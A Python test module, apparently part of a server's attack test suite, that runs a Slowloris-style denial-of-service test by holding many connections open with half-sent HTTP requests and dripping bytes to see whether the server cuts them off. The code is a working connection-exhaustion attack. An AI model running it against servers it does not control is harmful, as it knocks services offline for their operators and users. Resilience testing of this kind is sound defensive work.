"""Requests that never become whole: no head, half a head, half a body, half a handshake."""

import asyncio
from collections import Counter
from contextlib import suppress
from urllib.parse import urlsplit

from tests.server.attacks._raw import many_files

PATIENCE = 60.0
HALVES = (
    "",
    "GET / HTTP/1.1\r\nHost: {host}\r\nX-Slow: ",
    "POST /api/me HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\nContent-Length: 20\r\n\r\n{{",
    "GET /api/tables/x/socket HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n",
)
DRIP = 0.5
AT_ONCE = 100


async def attack(url: str, count: int) -> Counter[str]:
    """Opens `count` connections, begins a request on each, goes on byte by byte, and waits to be cut off."""
    many_files()
    room = asyncio.Semaphore(AT_ONCE)
    return Counter(await asyncio.gather(*(_half(url, number, room) for number in range(count))))


async def _half(url: str, number: int, room: asyncio.Semaphore) -> str:
    where = urlsplit(url)
    try:
        async with room:
            reader, writer = await asyncio.open_connection(where.hostname, where.port)
    except OSError:
        return "refused"
    writer.write(HALVES[number % len(HALVES)].format(host=where.netloc).encode())
    dripping = asyncio.create_task(_drip(writer))
    try:
        answer = await asyncio.wait_for(reader.read(1_000), PATIENCE)
        return f"answered {answer.split()[1].decode()}" if answer else "cut off"
    except TimeoutError:
        return "still open"
    except OSError:
        return "cut off"
    finally:
        dripping.cancel()
        writer.transport.abort()


async def _drip(writer: asyncio.StreamWriter) -> None:
    with suppress(OSError):
        while not writer.is_closing():
            await asyncio.sleep(DRIP)
            writer.write(b"x")
